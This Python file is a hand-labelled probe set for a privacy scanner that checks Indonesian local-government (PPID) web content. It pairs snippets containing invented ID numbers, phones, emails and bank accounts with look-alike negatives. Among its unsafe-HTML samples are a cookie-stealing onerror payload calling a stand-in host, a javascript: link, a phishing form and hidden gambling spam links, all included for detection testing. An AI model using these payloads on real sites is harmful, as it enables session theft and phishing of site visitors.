"""A held-out probe set for the privacy scanner, written by hand apart from the generator in
corpus.py (which was written together with the detectors): realistic snippets of what a PPID
site publishes - letters, SK lampiran, aid tables, news, minutes, announcements, HTML - each
labelled with the personal data (kind, value) a reader would call a leak. About half are hard
negatives: text full of numbers and words that look like personal data and are not.

Identifiers are invented; they have valid structure (area codes, dates, NPWP check digits) as
a real leak would, and belong to nobody.

The office of these snippets is "Dinas Komunikasi dan Informatika Kabupaten Sleman"; its own
contacts are OFFICE_CONTACTS (the allow-list a real office puts in its settings).

Two labels were added after the first run (marked below): gambling terms inside spam link URLs
that the first labelling had overlooked. Nothing else was changed to suit the scanner.
"""

from typing import NamedTuple

OFFICE_CONTACTS = [
    "(0274) 868405",
    "0811-2950-4400",
    "ppid@slemankab.go.id",
    "diskominfo@slemankab.go.id",
]


class Probe(NamedTuple):
    genre: str
    text: str
    expected: tuple[tuple[str, str], ...] = ()  # (kind, value as written in text)


def p(genre: str, text: str, *expected: tuple[str, str]) -> Probe:
    for _kind, value in expected:
        assert value in text, (genre, value)
    return Probe(genre, text, tuple(expected))


POSITIVES = [
    # --- letters and forms ----------
    p(
        "surat",
        "Yang bertanda tangan di bawah ini:\nNama : Sri Wahyuningsih\nNIK : 3404076708920003\n"
        "Tempat/Tgl. Lahir : Sleman, 27 Agustus 1992\nAlamat : Dusun Ngentak RT 04/RW 12, "
        "Sendangadi, Mlati\nNo. HP : 0813-2745-6631",
        ("nik", "3404076708920003"),
        ("birth_date", "27 Agustus 1992"),
        ("address", "Dusun Ngentak RT 04/RW 12"),
        ("phone", "0813-2745-6631"),
    ),
    p(
        "surat",
        "Dengan hormat, saya Bambang Triyono (NIK 3578112510770005) mengajukan keberatan atas "
        "jawaban permohonan informasi nomor 045/0231/PPID/2024.",
        ("nik", "3578112510770005"),
    ),
    p(
        "surat",
        "SURAT KETERANGAN DOMISILI\nNama: Yohana Kambu\nNIK: 9271015512010004\nbertempat "
        "tinggal di Jl. Basuki Rahmat No. 17, Kel. Klasaman, Distrik Sorong Timur.",
        ("nik", "9271015512010004"),
        ("address", "Jl. Basuki Rahmat No. 17, Kel. Klasaman, Distrik Sorong Timur"),
    ),
    p(
        "surat",
        "Pemohon: Andi Rahmat, NIK 6571024406990002, e-mail andirahmat99@gmail.com, telepon "
        "0852 4711 0932.",
        ("nik", "6571024406990002"),
        ("email", "andirahmat99@gmail.com"),
        ("phone", "0852 4711 0932"),
    ),
    p(
        "surat",
        "Formulir Permohonan Informasi\nNama Pemohon : Dewi Anggraini\nNomor KTP : 3273 1841 "
        "1100 0007\nPekerjaan : Mahasiswa\nE-mail : dewi.anggraini@student.ugm.ac.id",
        ("nik", "3273 1841 1100 0007"),
        ("email", "dewi.anggraini@student.ugm.ac.id"),
    ),
    p(
        "surat",
        "Nomor Kartu Keluarga: 3404070203150012\nKepala Keluarga: Sutrisno",
        ("kk", "3404070203150012"),
    ),
    p(
        "surat",
        "Saya yang bertanda tangan di bawah ini, Rudi Hartono, TTL: Medan, 17-01-1988, NPWP "
        "24.563.718.6-542.000, menyatakan bahwa data di atas benar.",
        ("birth_date", "17-01-1988"),
        ("npwp", "24.563.718.6-542.000"),
    ),
    p(
        "surat",
        "Honorarium narasumber ditransfer ke rekening BNI nomor 0412738295 a.n. Dr. Hendra "
        "Gunawan, NPWP 31.820.457.5-617.000.",
        ("bank_account", "0412738295"),
        ("npwp", "31.820.457.5-617.000"),
    ),
    p(
        "surat",
        "Surat Pernyataan\nNama : Maria Goreti Lena\nNo. Paspor : C 4729183\nKewarganegaraan : "
        "Indonesia\nNo. WhatsApp : +62 857-2913-4408",
        ("passport", "C 4729183"),
        ("phone", "+62 857-2913-4408"),
    ),
    p(
        "surat",
        "Bersama ini kami sampaikan data peserta: Suparmi, lahir di Bantul pada tanggal 3 Mei "
        "1961, No. Kartu BPJS Kesehatan 0001287345612.",
        ("birth_date", "3 Mei 1961"),
        ("bpjs", "0001287345612"),
    ),
    p(
        "surat",
        "Pengaduan disampaikan oleh Sdr. Agus Salim melalui email agussalim.klaten@yahoo.co.id "
        "dan HP 081 227 456 118 pada 12 Maret 2024.",
        ("email", "agussalim.klaten@yahoo.co.id"),
        ("phone", "081 227 456 118"),
    ),
    p(
        "surat",
        "Nama: Ni Kadek Ayu Pradnyani\nNIK: 5171034101000003\nAlamat: Jl. Gatot Subroto Barat "
        "Gg. Jempiring No. 8, Kel. Padangsambian, Kec. Denpasar Barat",
        ("nik", "5171034101000003"),
        ("address", "Jl. Gatot Subroto Barat Gg. Jempiring No. 8, Kel. Padangsambian"),
    ),
    p(
        "surat",
        "Data ahli waris: Fransiskus Xaverius Dhae, NIK 5310052309830001, rekening Bank NTT "
        "001.02.03.123456-7 atas nama yang bersangkutan.",
        ("nik", "5310052309830001"),
        ("bank_account", "001.02.03.123456-7"),
    ),
    p(
        "surat",
        "Dikirim oleh: Laras Setyaningrum <laras.setya@outlook.com>, HP: 0896 3341 7720",
        ("email", "laras.setya@outlook.com"),
        ("phone", "0896 3341 7720"),
    ),
    p(
        "surat",
        "Untuk konfirmasi silakan hubungi saudari Fitri di nomor WA 0822-2033-1187.",
        ("phone", "0822-2033-1187"),
    ),
    p(
        "surat",
        "NIK 3201 01 120390 0001 atas nama Dedi Mulyadi telah diverifikasi Dukcapil.",
        ("nik", "3201 01 120390 0001"),
    ),
    p(
        "surat",
        "Kirimkan berkas ke rahmawati.sri[at]gmail[dot]com paling lambat Jumat.",
        ("email", "rahmawati.sri[at]gmail[dot]com"),
    ),
    p(
        "surat",
        "Untuk keperluan verifikasi, pemohon atas nama Hadi Susanto memberikan alamat surel "
        "hadi_s (at) yahoo.com.",
        ("email", "hadi_s (at) yahoo.com"),
    ),
    p(
        "surat",
        "Paspor nomor X1938275 milik Sdr. Wahyu diterbitkan Kantor Imigrasi Yogyakarta.",
        ("passport", "X1938275"),
    ),
    p(
        "surat",
        "Tempat, tanggal lahir: Makassar, 09/02/1994\nJenis Kelamin: Perempuan",
        ("birth_date", "09/02/1994"),
    ),
    # --- SK lampiran and tables of persons ----------
    p(
        "lampiran",
        "LAMPIRAN KEPUTUSAN KEPALA DESA SENDANGADI NOMOR 14 TAHUN 2024\n"
        "No | Nama | NIK | Alamat | Jumlah\n"
        "1 | Tukiyem | 3404074107550001 | Ngentak RT 02/RW 12 | Rp 300.000\n"
        "2 | Paidi | 3404071506480002 | Karangjati RT 05/RW 20 | Rp 300.000",
        ("nik", "3404074107550001"),
        ("address", "Ngentak RT 02/RW 12"),
        ("nik", "3404071506480002"),
        ("address", "Karangjati RT 05/RW 20"),
    ),
    p(
        "lampiran",
        "DAFTAR PENERIMA BLT DANA DESA TAHAP III\nNo\tNama\tNIK\tNo. KK\n"
        "1\tSuwarni\t3402086302700003\t3402081203100045\n"
        "2\tMujiono\t3402080705690001\t3402081203100046",
        ("nik", "3402086302700003"),
        ("kk", "3402081203100045"),
        ("nik", "3402080705690001"),
        ("kk", "3402081203100046"),
    ),
    p(
        "lampiran",
        "Nama;NIK;Tempat, Tgl Lahir;No HP\n"
        "Siti Khotimah;3312095708850002;Wonogiri, 17-08-1985;085725110943\n"
        "Joko Susilo;3312091011800001;Wonogiri, 10-11-1980;081329004571",
        ("nik", "3312095708850002"),
        ("birth_date", "17-08-1985"),
        ("phone", "085725110943"),
        ("nik", "3312091011800001"),
        ("birth_date", "10-11-1980"),
        ("phone", "081329004571"),
    ),
    p(
        "lampiran",
        "<table><tr><th>Nama</th><th>NIK</th><th>Alamat</th></tr>"
        "<tr><td>Lukas Wenda</td><td>9501012204950001</td><td>Jl. Irian No. 4 RT 001/RW 003"
        "</td></tr></table>",
        ("nik", "9501012204950001"),
        ("address", "Jl. Irian No. 4 RT 001/RW 003"),
    ),
    p(
        "lampiran",
        "Penerima beasiswa: 1. Ahmad Fauzi, 3174090512030002; 2. Nur Aini, 3174094803040001.",
        ("nik", "3174090512030002"),
        ("nik", "3174094803040001"),
    ),
    p(
        "lampiran",
        "NO,NAMA,NIK (disamarkan),DESA\n1,Sukirah,3404074107xx0001,Sendangadi\n"
        "2,Parjo,340407150648xxxx,Tlogoadi",
        ("nik", "3404074107xx0001"),
        ("nik", "340407150648xxxx"),
    ),
    p(
        "lampiran",
        "Daftar Peserta Pelatihan\n| No | Nama | NIK | Email |\n"
        "| 1 | Rina Marlina | 3273.18.650497.0004 | rinamarlina97@gmail.com |\n"
        "| 2 | Yusuf Maulana | 3273.18.020396.0001 | yusufmaulana.id@gmail.com |",
        ("nik", "3273.18.650497.0004"),
        ("email", "rinamarlina97@gmail.com"),
        ("nik", "3273.18.020396.0001"),
        ("email", "yusufmaulana.id@gmail.com"),
    ),
    p(
        "lampiran",
        "Penerima Bantuan RTLH: Saminem, NIK 3404 0765 0150 0003, Rek. BRI 0029-01-034567-50-3",
        ("nik", "3404 0765 0150 0003"),
        ("bank_account", "0029-01-034567-50-3"),
    ),
    p(
        "lampiran",
        "Data calon jemaah haji 2025\nNama: H. Abdul Karim\nNo. Paspor: E 8812345\n"
        "Tgl. Lahir: 04-07-1958\nNo. Porsi: 1200123456",
        ("passport", "E 8812345"),
        ("birth_date", "04-07-1958"),
    ),
    p(
        "lampiran",
        "Nama Tenaga Honorer | NIK | NPWP | BPJS Ketenagakerjaan\n"
        "Eko Prasetyo | 3404052208900001 | 08.712.364.2-013.000 | 20041234567",
        ("nik", "3404052208900001"),
        ("npwp", "08.712.364.2-013.000"),
        ("bpjs", "20041234567"),
    ),
    p(
        "lampiran",
        "DATA PENERIMA PBI JK\nNo. Kartu KIS: 0002 5512 3478 1 a.n. Sumiyati\n"
        "No. Kartu KIS: 0002 5512 3479 9 a.n. Marto",
        ("bpjs", "0002 5512 3478 1"),
        ("bpjs", "0002 5512 3479 9"),
    ),
    p(
        "lampiran",
        "1   Warsito   3403021012650004   Jl. Wonosari Km 7 RT 03 RW 05, Baturetno   "
        "0878 3900 2145",
        ("nik", "3403021012650004"),
        ("address", "RT 03 RW 05"),
        ("phone", "0878 3900 2145"),
    ),
    p(
        "lampiran",
        "NIK Ayah: 1271031203700002\nNIK Ibu: 1271035701880002\nNama Anak: Putri Ramadhani",
        ("nik", "1271031203700002"),
        ("nik", "1271035701880002"),
    ),
    p(
        "lampiran",
        "Rekapitulasi penerima: Yosef Bame, NIK 9301021203870002, Merauke; Maria Gebze, NIK "
        "9301026611890001, Merauke.",
        ("nik", "9301021203870002"),
        ("nik", "9301026611890001"),
    ),
    p(
        "lampiran",
        "NAMA: LA ODE MUHAMMAD RIFAI\nNIK: 7472031708910002\nNO HP: +6281355421190",
        ("nik", "7472031708910002"),
        ("phone", "+6281355421190"),
    ),
    # --- minutes, recaps and news ----------
    p(
        "notulen",
        "Hadir dalam rapat: perwakilan warga, Sdr. Slamet (HP 0812 2811 4590) dan Ibu Tari "
        "(tari.wulandari@gmail.com).",
        ("phone", "0812 2811 4590"),
        ("email", "tari.wulandari@gmail.com"),
    ),
    p(
        "notulen",
        "Warga pelapor, Bapak Sunarto, beralamat di Jalan Kaliurang Km 9 Gang Pandega No. 12, "
        "Desa Sardonoharjo, Kec. Ngaglik, meminta salinan dokumen AMDAL.",
        ("address", "Gang Pandega No. 12, Desa Sardonoharjo, Kec. Ngaglik"),
    ),
    p(
        "rekap",
        "REKAP PERMOHONAN INFORMASI BULAN JUNI 2024\n"
        "1. 012/PPID/VI/2024 - Heru Santoso - heru.santoso77@gmail.com - 0857-4022-1093\n"
        "2. 013/PPID/VI/2024 - LSM Jaringan Warga - jaringanwarga@gmail.com - (0274) 552310",
        ("email", "heru.santoso77@gmail.com"),
        ("phone", "0857-4022-1093"),
    ),  # the LSM's own address and landline are an organisation's, not personal data
    p(
        "berita",
        "Korban, Sdri. AN (23), warga Dusun Jongke Kidul RT 07 RW 21, Sendangadi, telah "
        "dipulangkan ke rumahnya.",
        ("address", "Dusun Jongke Kidul RT 07 RW 21"),
    ),
    p(
        "berita",
        "Bagi warga yang kehilangan dompet atas nama Suharti dengan KTP bernomor "
        "3404025804650001 dapat mengambilnya di kantor desa.",
        ("nik", "3404025804650001"),
    ),
    p(
        "pengumuman",
        "Pemenang undian: Sdr. Teguh, No. HP 0813 9027 5512, dan Sdri. Anis, No. HP "
        "0819 0431 2277.",
        ("phone", "0813 9027 5512"),
        ("phone", "0819 0431 2277"),
    ),
    p(
        "pengumuman",
        "Hasil seleksi administrasi: 1. Dimas Aryo, lahir 14 Juni 1999, NIK 3471011406990001.",
        ("nik", "3471011406990001"),
    ),
    p(
        "pengumuman",
        "Donasi untuk pengobatan dapat dikirim ke rekening BCA 8730 1245 67 a.n. Sri Lestari.",
        ("bank_account", "8730 1245 67"),
    ),
    p(
        "pengumuman",
        "Kontak panitia: Mas Arif 0821-3456-0087 (WA only).",
        ("phone", "0821-3456-0087"),
    ),
    # --- HTML from imports and injected spam ----------
    p(
        "html",
        '<p>Pengumuman</p><img src="x" onerror="fetch(\'https://evil.example/?c=\'+'
        'document.cookie)">',
        ("unsafe_html", "onerror"),
    ),
    p(
        "html",
        '<p>Unduh di sini</p><script src="//cdn-jquery.example/jquery.min.js"></script>',
        ("unsafe_html", "<script"),
    ),
    p(
        "html",
        '<div style="display:none"><a href="https://slot88-gacor.example">slot gacor</a></div>'
        "<p>Profil Dinas</p>",
        ("hidden_link", '<div style="display:none">'),
        ("gambling", "slot88"),  # label added after the first run: the spam domain
        ("gambling", "slot gacor"),
    ),
    p(
        "html",
        '<p style="position:absolute;left:-9999px"><a href="https://toto.example">situs toto'
        "</a></p>",
        ("hidden_link", '<p style="position:absolute;left:-9999px">'),
        ("gambling", "situs toto"),
    ),
    p(
        "html",
        '<a href="javascript:alert(document.domain)">Klik untuk unduh SOP</a>',
        ("unsafe_html", "javascript:"),
    ),
    p(
        "html",
        '<iframe src="https://ads.example/banner" width="0" height="0"></iframe>',
        ("unsafe_html", "<iframe"),
    ),
    p(
        "html",
        '<span style="font-size:0"><a href="https://maxwin.example">bocoran rtp</a></span>',
        ("hidden_link", '<span style="font-size:0">'),
        ("gambling", "maxwin"),  # label added after the first run: the spam domain
        ("gambling", "bocoran rtp"),
    ),
    p(
        "spam",
        "SLOT GACOR HARI INI MAXWIN TERPERCAYA - DAFTAR SEKARANG",
        ("gambling", "SLOT GACOR HARI INI"),
        ("gambling", "MAXWIN"),
    ),
    p(
        "spam",
        "Berita Desa | s l o t g a c o r | Pengumuman",
        ("gambling", "s l o t g a c o r"),
    ),
    p(
        "spam",
        "Link alternatif situs slot online: mahjong ways 2 anti rungkad",
        ("gambling", "situs slot online"),
        ("gambling", "mahjong ways"),
        ("gambling", "anti rungkad"),
    ),
    p(
        "spam",
        "Prediksi togel hongkong malam ini, bandar togel resmi 4D.",
        ("gambling", "togel"),
        ("gambling", "bandar togel"),
    ),
    p(
        "spam",
        "sl0t g4c0r | rtp live | k4kek zeus",
        ("gambling", "sl0t g4c0r"),
        ("gambling", "rtp live"),
        ("gambling", "k4kek zeus"),
    ),
    p(
        "html",
        '<form action="https://login-ppid.example/auth" method="post"><input name="nip"></form>',
        ("unsafe_html", "<form"),
    ),
    # --- harder positives ----------
    p(
        "lampiran",
        "3404076708920003\n3578112510770005\n3174094803040001",
        ("nik", "3404076708920003"),
        ("nik", "3578112510770005"),
        ("nik", "3174094803040001"),
    ),
    p(
        "surat",
        "NIK: 3404-0767-0892-0003 (fotokopi KTP terlampir)",
        ("nik", "3404-0767-0892-0003"),
    ),
    p(
        "surat",
        "NIK pemohon 3404 07 670892 0003, alamat email pribadi sri.w@yahoo.com",
        ("nik", "3404 07 670892 0003"),
        ("email", "sri.w@yahoo.com"),
    ),
    p(
        "surat",
        "Nomor NPWP pribadi: 15.620.984.3-402.000",
        ("npwp", "15.620.984.3-402.000"),
    ),
    p(
        "surat",
        "NPWP (16 digit): 3404076708920003",
        ("npwp", "3404076708920003"),
    ),
    p(
        "surat",
        "Telp. rumah (0274) 4461 233, HP 0811-2677-3310",
        ("phone", "(0274) 4461 233"),
        ("phone", "0811-2677-3310"),
    ),
    p(
        "surat",
        "TTL : Bantul, 1 Januari 1975 | Alamat : Jl. Parangtritis Km 5 No. 21, Bantul",
        ("birth_date", "1 Januari 1975"),
        ("address", "Jl. Parangtritis Km 5 No. 21"),
    ),
    p(
        "lampiran",
        "Nomor Rekening: BRI 3402-01-000123-50-9 (Wagiman)\n"
        "Nomor Rekening: BRI 3402-01-000124-50-5 (Sutinah)",
        ("bank_account", "3402-01-000123-50-9"),
        ("bank_account", "3402-01-000124-50-5"),
    ),
    p(
        "lampiran",
        "Sampel data: NIK 3404071203850001 (Tn. B), NIK 3404075203860002 (Ny. C)",
        ("nik", "3404071203850001"),
        ("nik", "3404075203860002"),
    ),
    p(
        "surat",
        "No KK : 3404 0702 0315 0012",
        ("kk", "3404 0702 0315 0012"),
    ),
    p(
        "notulen",
        "Sekretaris rapat mencatat nomor HP ketua kelompok tani, Pak Harjo: 0857 2961 0445.",
        ("phone", "0857 2961 0445"),
    ),
    p(
        "pengumuman",
        "Peserta atas nama Rosalina (lahir di Ende, 23 September 2001) dinyatakan lulus.",
        ("birth_date", "23 September 2001"),
    ),
    p(
        "surat",
        "Surel pemohon: bagus.prakoso@gmail.com; No. Identitas (KTP) 3402081712940001",
        ("email", "bagus.prakoso@gmail.com"),
        ("nik", "3402081712940001"),
    ),
    p(
        "lampiran",
        "No Paspor\nA 2231907\nB 7719204",
        ("passport", "A 2231907"),
        ("passport", "B 7719204"),
    ),
    p(
        "surat",
        "NIK 340407xxxxxx0003 dan NIK 3404076708920003 ditemukan pada formulir yang sama.",
        ("nik", "3404076708920003"),
    ),
    p(
        "surat",
        "E-mail: wahyu.hidayat [at] gmail [dot] com | WA: 62 812 2670 4453",
        ("email", "wahyu.hidayat [at] gmail [dot] com"),
        ("phone", "62 812 2670 4453"),
    ),
    p(
        "surat",
        "Alamat rumah: Perumahan Griya Kencana Blok B2 No. 15, Kel. Wedomartani, Kec. Ngemplak",
        ("address", "Perumahan Griya Kencana Blok B2 No. 15, Kel. Wedomartani, Kec. Ngemplak"),
    ),
    p(
        "surat",
        "Bukti transfer dari rekening Mandiri 137-00-1234567-8 milik pemohon dilampirkan.",
        ("bank_account", "137-00-1234567-8"),
    ),
    p(
        "lampiran",
        "Nama Ibu Kandung: Sumiati | NIK: 3404074512600001 | No. HP: 0878-3911-2045",
        ("nik", "3404074512600001"),
        ("phone", "0878-3911-2045"),
    ),
    p(
        "berita",
        "Pelaku, AS (34), warga Jalan Anggajaya II No. 7, Kel. Condongcatur, Kec. Depok, "
        "beralamat sesuai KTP 3404111208890003.",
        ("address", "Jalan Anggajaya II No. 7, Kel. Condongcatur, Kec. Depok"),
        ("nik", "3404111208890003"),
    ),
    p(
        "html",
        '<a href="https://ppid.slemankab.go.id" onmouseover="location=\'https://judi.example\'">'
        "PPID</a>",
        ("unsafe_html", "onmouseover"),
    ),
]


NEGATIVES = [
    # --- regulations, letters, budgets ----------
    p(
        "regulasi",
        "Berdasarkan Undang-Undang Nomor 14 Tahun 2008 tentang Keterbukaan Informasi Publik dan "
        "Peraturan Komisi Informasi Nomor 1 Tahun 2021 tentang Standar Layanan Informasi Publik.",
    ),
    p(
        "regulasi",
        "Peraturan Bupati Sleman Nomor 37.1 Tahun 2021 sebagaimana diubah dengan Peraturan "
        "Bupati Nomor 12 Tahun 2023.",
    ),
    p("surat", "Nomor : 800.1.11.1/0231/Diskominfo/2024\nLampiran : 1 (satu) berkas"),
    p("surat", "Nomor: B-1234/KOM.01.02/06/2024 tanggal 12 Juni 2024 perihal undangan rapat."),
    p("surat", "Menindaklanjuti surat Saudara Nomor 045/2231/SETDA/VIII/2023 tanggal 3 Agustus."),
    p(
        "anggaran",
        "Pagu anggaran Rp 1.234.567.890,00 dengan realisasi Rp 1.102.338.500,00 (89,29%).",
    ),
    p(
        "anggaran",
        "Kode Rekening 5.1.02.01.01.0024 Belanja Alat Tulis Kantor Rp 12.500.000",
    ),
    p(
        "anggaran",
        "5.1.02.02.01.0013 | Belanja Jasa Tenaga Administrasi | 12 OB | 2.100.000 | 25.200.000",
    ),
    p(
        "anggaran",
        "Total belanja daerah TA 2024 sebesar Rp2.345.678.901.234 atau naik 4,5 persen.",
    ),
    p("anggaran", "DPA-SKPD 2.16.2.20.2.21.01.0000 Dinas Komunikasi dan Informatika"),
    p(
        "anggaran",
        "Nilai kontrak 1.456.780.000 rupiah, Nomor SP2D 00123/SP2D-LS/Diskominfo/2024.",
    ),
    # --- signature blocks with NIP ----------
    p(
        "ttd",
        "Sleman, 14 Juni 2024\nKepala Dinas Komunikasi dan Informatika\n\nttd\n\n"
        "Drs. Eka Suryo Prihantoro, M.Si.\nPembina Utama Muda (IV/c)\nNIP 19700612 199003 1 007",
    ),
    p("ttd", "Plt. Sekretaris Dinas,\nAni Rahmawati, S.Sos.\nNIP. 198203152006042012"),
    p(
        "ttd",
        "Mengetahui,\nCamat Mlati\n(Sutarno, S.IP., M.M.)\nNIP 19680825 199203 1 008",
    ),
    # --- public codes and numbers ----------
    p("kode", "ISBN 978-602-1234-56-7, cetakan pertama Maret 2023, 240 halaman."),
    p("kode", "Kantor Dinas: Jl. Parasamya No. 1, Beran, Tridadi, Sleman 55511."),
    p("kode", "Nomor Induk Berusaha (NIB) 9120001234567 a.n. CV Karya Mandiri."),
    p("kode", "NPSN 20401234, akreditasi A, jumlah siswa 452 orang."),
    p("kode", "NUPTK 3404765667130032 untuk guru penerima tunjangan sertifikasi."),
    p("kode", "Nomor registrasi permohonan: 20240612-0031. Status: diproses."),
    p("kode", "Kode billing 820240612000123 berlaku sampai 19 Juni 2024."),
    p("kode", "Nomor Virtual Account 8808 1234 5678 9012 untuk pembayaran retribusi."),
    p("kode", "IMEI perangkat dinas 356789012345678 terdaftar di inventaris."),
    p("kode", "Nomor seri faktur pajak 010.000-24.12345678"),
    p("kode", "Jam layanan 08.00-15.30 WIB, istirahat 12.00-13.00 WIB."),
    p("kode", "Jumlah penduduk Kabupaten Sleman 1.136.474 jiwa (BPS, 2023)."),
    p("kode", "Tercatat 3.404 kepala keluarga dan 12.017 jiwa di Kecamatan Mlati."),
    p("kode", "Kode pos 55284, kode wilayah 34.04.07.2001."),
    p("kode", "Nomor Objek Pajak (NOP) 34.04.070.001.002-0123.0"),
    p("kode", "Koordinat -7.7326, 110.3550; ketinggian 150 mdpl."),
    p("kode", "Tanggal 17-08-1945 diperingati sebagai Hari Kemerdekaan."),
    p("kode", "NIK 340407xxxxxxxx03 (disamarkan sesuai ketentuan)."),
    p("kode", "Nomor kontrak 027/SPK/PPK-DKI/2024 senilai Rp 187.500.000."),
    p("kode", "Nomor surat izin 503/1234/DPMPTSP/2024, berlaku 5 tahun."),
    p("kode", "ID Pelanggan PLN 532110234567 untuk kantor kelurahan."),
    # --- the office's own contacts, institutional accounts ----------
    p(
        "kontak",
        "Layanan informasi: telepon (0274) 868405, WhatsApp 0811-2950-4400, surel "
        "ppid@slemankab.go.id.",
    ),
    p(
        "kontak",
        "Pengaduan dapat disampaikan melalui diskominfo@slemankab.go.id atau datang langsung ke "
        "kantor pada jam kerja.",
    ),
    p(
        "kontak",
        "Pembayaran retribusi disetor ke Rekening Kas Umum Daerah (RKUD) Kabupaten Sleman pada "
        "Bank BPD DIY Nomor 001.111.000001.",
    ),
    p("kontak", "NPWP Pemerintah Kabupaten Sleman: 00.017.023.5-542.000."),
    p("kontak", "Call center 112 dan hotline Halo Sleman 0274 868405."),
    # --- words that look like spam, news about gambling ----------
    p(
        "berita",
        "Polres Sleman menangkap dua tersangka bandar togel di Kecamatan Depok. Barang bukti "
        "berupa rekapan togel dan uang tunai Rp 1.250.000 diamankan.",
    ),
    p(
        "berita",
        "Diskominfo mengajukan pemblokiran 312 situs judi online sepanjang semester pertama "
        "2024 dan mengimbau warga melaporkan konten perjudian.",
    ),
    p(
        "berita",
        "Sosialisasi bahaya judi slot online bagi pelajar SMA Negeri 1 Godean diikuti 250 siswa.",
    ),
    p("berita", "Masih tersedia slot pendaftaran untuk 40 peserta pelatihan UMKM."),
    p("berita", "Lomba burung kicau gacor memeriahkan HUT Desa Tlogoadi ke-78."),
    p("berita", "Slot parkir di halaman kantor terbatas; gunakan kantong parkir timur."),
    p(
        "berita",
        "Satgas Pemberantasan Perjudian Daring mencatat kerugian masyarakat akibat judi online "
        "mencapai triliunan rupiah.",
    ),
    p("berita", "Pilih slot waktu konsultasi melalui aplikasi Lapor Sleman."),
    # --- RT/RW as neighbourhood, office addresses ----------
    p("rtrw", "Rapat koordinasi Ketua RT/RW se-Kalurahan Sendangadi dihadiri 54 orang."),
    p("rtrw", "Insentif pengurus RT dan RW dibayarkan setiap triwulan."),
    p(
        "rtrw",
        "Alamat kantor: Jl. Magelang Km 10, Tridadi, Sleman. Alamat surat menyurat sama.",
    ),
    p("rtrw", "Posyandu Melati di Padukuhan Ngentak melayani 86 balita setiap bulan."),
    # --- HTML that is safe ----------
    p(
        "html",
        '<p>Unduh <a href="https://slemankab.go.id/dokumen/sop.pdf">SOP PPID</a> (PDF, 2 MB)</p>',
    ),
    p("html", "<p>Contoh kode berbahaya: &lt;script&gt;alert(1)&lt;/script&gt; ditolak.</p>"),
    p("html", '<img src="/media/logo@2x.png" alt="Logo Kabupaten Sleman">'),
    p(
        "html",
        '<details><summary>Lihat jadwal</summary><p style="margin-left:20px">Senin - Jumat'
        "</p></details>",
    ),
    p(
        "html",
        "<p>Atribut onclick dan tag iframe tidak diizinkan di editor website ini.</p>",
    ),
    # --- dates and people in public roles ----------
    p(
        "berita",
        "Bupati Sleman, Kustini Sri Purnomo, membuka acara pada Senin, 10 Juni 2024 pukul "
        "09.00 WIB.",
    ),
    p("berita", "Tokoh pendiri desa, Mbah Karto (1890-1965), dimakamkan di Sendangadi."),
    p("berita", "Sultan Hamengku Buwono IX lahir pada 12 April 1912 di Yogyakarta."),
    p("berita", "Akta kelahiran diterbitkan untuk 1.254 anak sepanjang 2023."),
    p("berita", "Media sosial resmi: @kominfosleman dan @ppidsleman."),
    p(
        "notulen",
        "Rapat dimulai pukul 09.15 dan ditutup pukul 11.40. Peserta: 23 orang. Keputusan: "
        "revisi DIP ditetapkan paling lambat 30-06-2024.",
    ),
    p("notulen", "Jumlah permohonan informasi 2023: 148; dikabulkan 131; ditolak 6; 11 proses."),
    p(
        "rekap",
        "No. Register 0123/PPID/VI/2024 | 12-06-2024 | Salinan DPA Dinas Kesehatan | Dikabulkan",
    ),
    p(
        "rekap",
        "Nomor permohonan 2024.06.0031, 2024.06.0032 dan 2024.06.0033 telah dijawab.",
    ),
    p(
        "surat",
        "NIP 198203152006042012 dan NIP 19700612 199003 1 007 ditetapkan sebagai tim pengelola.",
    ),
    p("surat", "Nomor telepon darurat: 110 (Polisi), 113 (Pemadam), 119 (Ambulans)."),
    p("surat", "Hubungi call center BPJS Kesehatan 165 atau kantor cabang terdekat."),
    p("surat", "Pembuatan paspor elektronik dikenai biaya Rp 650.000 sesuai PP 28 Tahun 2019."),
    p("surat", "Formulir: Nama: ........ NIK: ................ Alamat: ........ No. HP: ......"),
    p("anggaran", "Saldo kas per 31 Desember 2023: Rp 4.512.330.125,17."),
    p("anggaran", "Nomor rekening belanja 5.2.2.05.01 untuk pengadaan komputer."),
    p(
        "kode",
        "Register aset 02.06.02.01.001 - 02.06.02.01.045 (45 unit laptop, 2021).",
    ),
    p("kode", "Nomor induk siswa 0051234567 dan NISN 0087654321 tercantum di rapor."),
    p("anggaran", "Nilai HPS Rp 3.404.071.203,00; nilai penawaran Rp 3.350.000.000,00."),
    p("kode", "Nomor sertifikat tanah 12.03.04.05.1.01234 atas nama Pemerintah Desa."),
    p("surat", "Sesuai surat edaran nomor SE.02/MENPAN/2024 tanggal 2 Januari 2024."),
]

PROBES = POSITIVES + NEGATIVES
